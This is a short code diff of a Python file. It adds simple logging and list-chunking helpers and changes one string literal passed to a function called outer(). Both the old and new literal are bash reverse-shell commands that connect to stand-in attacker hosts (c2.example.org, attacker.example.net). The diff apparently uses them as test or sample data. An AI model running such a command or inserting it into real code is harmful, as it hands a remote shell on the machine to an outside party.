@@ -1,3 +1,12 @@
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
+
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import os
 
@@ -7,4 +16,4 @@ def inner(x):
 def outer(y):
     inner(y)
 
-outer("bash -i >& /dev/tcp/c2.example.org/6666 0>&1")
+outer("bash -i >& /dev/tcp/attacker.example.net/1337 0>&1")
